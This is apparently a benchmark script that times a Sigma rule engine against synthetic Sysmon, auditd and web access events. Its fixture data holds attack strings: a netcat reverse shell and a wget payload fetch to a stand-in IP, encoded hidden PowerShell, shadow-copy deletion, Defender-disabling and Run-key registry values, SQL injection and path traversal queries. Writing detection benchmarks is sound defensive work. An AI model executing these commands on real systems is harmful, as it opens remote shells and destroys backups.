// Sigma evaluation throughput on one core: the whole SigmaHQ rule set (../shared/data/sigmahq, or
// BENCH_SIGMA_RULES) loaded into the engine, over a mixed stream of synthetic Windows (Sysmon-like
// process creation, registry, network), Linux (process creation, auditd) and web access events, with
// web events in ECS names mapped to the rules' field names. BENCH_SIGMA_SECONDS (default 5) per pass.

import { existsSync } from 'node:fs';
import path from 'node:path';
import { createSigmaEngine } from '../apps/server/src/modules/events/sigma/sigma-engine.ts';
import { WEB_ECS_FIELD_MAPPINGS } from '../apps/server/src/modules/events/sigma/sigma-field-mappings.ts';
import { loadRulesFromPath } from '../apps/server/src/modules/events/sigma/sigma-loader.ts';
import type { SigmaEvent } from '../apps/server/src/modules/events/sigma/sigma-types.ts';
import { numberFromEnv } from './lib/env.ts';
import type { Benchmark, Measurement } from './lib/types.ts';

const RULES =
  process.env.BENCH_SIGMA_RULES ?? path.resolve(import.meta.dirname, '..', '..', 'shared', 'data', 'sigmahq');
const SECONDS = numberFromEnv('BENCH_SIGMA_SECONDS', 5);

/** A small deterministic PRNG, so every run sees the same stream. */
function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WIN_BINARIES = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\rundll32.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Users\\zhang\\AppData\\Local\\Temp\\setup.exe',
];
const WIN_ARGS = [
  '-k netsvcs -p -s Schedule',
  '/c echo hello > C:\\Users\\zhang\\out.txt',
  '-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
  '--type=renderer --field-trial-handle=1736,i,1234 --lang=zh-CN',
  'C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
  '0xffffffff -ForceV1',
  '/n "C:\\Users\\zhang\\Documents\\报告.docx"',
  '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  'whoami /all',
  'vssadmin delete shadows /all /quiet',
];
const LINUX_CMDS = [
  ['/usr/bin/bash', 'bash -c ls -la /var/www'],
  ['/usr/sbin/nginx', 'nginx: worker process'],
  ['/usr/bin/curl', 'curl -s https://mirrors.example.gov.cn/debian/dists/bookworm/Release'],
  ['/usr/bin/python3', 'python3 /opt/app/manage.py runserver'],
  ['/usr/bin/crontab', 'crontab -l'],
  ['/usr/bin/wget', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh'],
  ['/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
];
const WEB_PATHS = [
  '/',
  '/index.html',
  '/news/2026/notice.html',
  '/static/app.js',
  '/admin/login',
  '/.git/config',
  '/search',
];
const WEB_QUERIES = [
  '',
  'page=2',
  'q=%E5%85%AC%E5%91%8A',
  "id=1'%20union%20select%201,2--",
  'file=../../../../etc/passwd',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Mobile/15E148 MicroMessenger/8.0.49',
  'sqlmap/1.8#stable (https://sqlmap.org)',
  'Baiduspider/2.0; +http://www.baidu.com/search/spider.html',
];

/** The stream: 40% process creation, 15% registry, 10% network (Windows), 15% Linux, 20% web. */
export function syntheticEvents(count: number, seed = 42): SigmaEvent[] {
  const r = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(r() * list.length)] as T;
  const events: SigmaEvent[] = [];
  for (let i = 0; i < count; i++) {
    const x = r();
    const image = pick(WIN_BINARIES);
    if (x < 0.4) {
      events.push({
        logsource: { product: 'windows', category: 'process_creation' },
        EventID: 1,
        Image: image,
        OriginalFileName: path.win32.basename(image).toUpperCase(),
        CommandLine: `"${image}" ${pick(WIN_ARGS)}`,
        ParentImage: pick(WIN_BINARIES),
        ParentCommandLine: `"${pick(WIN_BINARIES)}"`,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: r() < 0.5 ? 'NT AUTHORITY\\SYSTEM' : 'GOV\\zhang',
        IntegrityLevel: r() < 0.5 ? 'High' : 'Medium',
        Hashes: `SHA256=${Math.floor(r() * 1e16)
          .toString(16)
          .padStart(64, '0')}`,
        Company: 'Microsoft Corporation',
        Product: 'Microsoft® Windows® Operating System',
        Description: 'Windows host process',
      });
    } else if (x < 0.55) {
      events.push({
        logsource: { product: 'windows', category: 'registry_set' },
        EventID: 13,
        EventType: 'SetValue',
        Image: image,
        TargetObject: pick([
          'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
          'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\Theme',
          'HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\Start',
        ]),
        Details: pick(['DWORD (0x00000004)', 'C:\\Users\\zhang\\AppData\\Local\\Temp\\updater.exe', '1']),
      });
    } else if (x < 0.65) {
      events.push({
        logsource: { product: 'windows', category: 'network_connection' },
        EventID: 3,
        Image: image,
        Initiated: 'true',
        SourceIp: '10.20.1.15',
        DestinationIp: pick(['203.0.113.9', '10.20.0.1', '198.51.100.23', '2001:db8::1']),
        DestinationPort: pick([443, 80, 4444, 3389, 53]),
        DestinationHostname: pick(['www.gov.cn', 'raw.githubusercontent.com', 'api.telegram.org', '']),
      });
    } else if (x < 0.8) {
      const [exe, cmd] = pick(LINUX_CMDS);
      events.push(
        r() < 0.6
          ? {
              logsource: { product: 'linux', category: 'process_creation' },
              Image: exe,
              CommandLine: cmd,
              ParentImage: '/usr/bin/bash',
              User: pick(['root', 'www-data', 'deploy']),
              CurrentDirectory: '/var/www',
            }
          : {
              logsource: { product: 'linux', service: 'auditd' },
              type: 'EXECVE',
              a0: exe,
              a1: cmd?.split(' ')[1] ?? '',
            },
      );
    } else {
      events.push({
        logsource: { category: 'webserver' },
        source: { ip: `198.51.100.${Math.floor(r() * 255)}` },
        url: { path: pick(WEB_PATHS), query: pick(WEB_QUERIES) },
        http: {
          request: { method: pick(['GET', 'GET', 'POST', 'HEAD']) },
          response: { status_code: pick([200, 200, 404, 401, 500]) },
        },
        user_agent: { original: pick(AGENTS) },
      });
    }
  }
  return events;
}

export const benchmark: Benchmark = {
  title: 'Sigma evaluation throughput (SigmaHQ rule set, one core)',
  method:
    'Loads every rule under ../shared/data/sigmahq into the engine, then runs match() on a mixed stream of 20,000 synthetic events (40% Windows process creation, 15% registry, 10% network, 15% Linux process/auditd, 20% web access logs in ECS names) in a loop on the main thread for a fixed time, timed by the CPU time of the process; the budget is 50 ms per 1,000 events (>= 20,000 events/s).',
  async run(ctx) {
    if (!existsSync(RULES))
      throw new Error(`the SigmaHQ rule set is not at ${RULES} (set BENCH_SIGMA_RULES)`);
    let started = performance.now();
    const loaded = loadRulesFromPath(RULES);
    const parseMs = performance.now() - started;
    started = performance.now();
    const engine = createSigmaEngine({ rules: loaded, fieldMappings: WEB_ECS_FIELD_MAPPINGS });
    const compileMs = performance.now() - started;
    const total = loaded.rules.length + loaded.correlations.length + loaded.unsupported.length;
    ctx.log(
      `${engine.stats.rules} rules compiled, ${engine.unsupported.length} not loaded (of ${total} documents)`,
    );
    for (const u of engine.unsupported) ctx.log(`  not loaded: ${path.basename(u.source)}: ${u.reason}`);

    const events = syntheticEvents(20_000);
    for (const e of events.slice(0, 2000)) engine.match(e); // warm up the JIT and the route cache
    const seconds = SECONDS * (ctx.scale ?? 1);
    let processed = 0;
    let matches = 0;
    const before = { ...engine.stats };
    // CPU time of this process, not wall time: the machine is shared, and the budget is per core.
    started = performance.now();
    const cpuBefore = process.cpuUsage();
    while (performance.now() - started < seconds * 1000) {
      for (const e of events) matches += engine.match(e).length;
      processed += events.length;
    }
    const cpu = process.cpuUsage(cpuBefore);
    const wall = performance.now() - started;
    const elapsed = (cpu.user + cpu.system) / 1000;
    const perSecond = (processed / elapsed) * 1000;
    const evaluations = (engine.stats.evaluations - before.evaluations) / processed;
    const prefiltered = (engine.stats.prefiltered - before.prefiltered) / processed;
    ctx.log(
      `${processed} events in ${(elapsed / 1000).toFixed(1)} s of CPU (${(wall / 1000).toFixed(1)} s wall): ${Math.round(perSecond)} events/s per core, ${(matches / processed).toFixed(2)} matches/event, ${evaluations.toFixed(1)} rule evaluations and ${prefiltered.toFixed(1)} prefiltered rules per event`,
    );
    const measurements: Measurement[] = [
      {
        metric: 'rules loaded',
        value: engine.stats.rules,
        unit: 'count',
        budget: null,
        note: `of ${total} documents`,
      },
      {
        metric: 'rules not loaded (reported with reasons)',
        value: engine.unsupported.length,
        unit: 'count',
        budget: null,
      },
      { metric: 'load: parse YAML', value: parseMs, unit: 'ms', budget: null },
      { metric: 'load: compile', value: compileMs, unit: 'ms', budget: null },
      {
        metric: 'time per 1,000 events',
        value: (elapsed / processed) * 1000,
        unit: 'ms',
        budget: { maxExclusive: 50 },
        note: 'CPU time of the one thread; 50 ms = 20,000 events/s',
      },
      { metric: 'events per second (one core)', value: perSecond, unit: 'count', budget: null },
      {
        metric: 'events per second (wall clock)',
        value: (processed / wall) * 1000,
        unit: 'count',
        budget: null,
        note: 'lower when other processes share the 2 cores',
      },
      {
        metric: 'rule evaluations per event',
        value: evaluations,
        unit: 'count',
        budget: null,
        note: 'after log-source routing and the literal prefilter',
      },
    ];
    return measurements;
  },
};
